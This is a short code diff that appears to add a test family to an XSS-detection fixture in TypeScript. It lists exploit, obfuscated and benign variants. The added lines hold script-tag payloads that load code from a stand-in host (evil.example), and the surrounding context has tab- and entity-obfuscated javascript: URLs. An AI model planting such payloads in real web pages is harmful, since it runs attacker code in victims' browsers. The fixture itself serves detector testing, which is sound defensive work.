@@ -83,6 +83,15 @@ export const FAMILIES: Readonly<Record<SimulatedClass, readonly Family[]>> = {
       benign: ["<b>on sale = 5</b>", "a < b and once = 1", '<img src="x.png" alt="on air">'],
     },
     {
+      exploit: "<script src=//evil.example/x.js></script>",
+      made: ["<SCRIPT id=a src='//evil.example/x.js'>"],
+      unseen: ['<script/lang="a b"/ src = "https://EVIL.example/x.js">'],
+      benign: [
+        '<script async src="https://cdn.example/x.js"></script>',
+        "<script> of evil.example",
+      ],
+    },
+    {
       exploit: '<a href="javascript:alert(1)">x</a>',
       made: ['<a href="java\tscript:alert(1)">x</a>', '<a href="java&Tab;script:alert(1)">'],
       unseen: ['<a class=b href="JaVa&#9;ScRiPt:alert`1`">'],
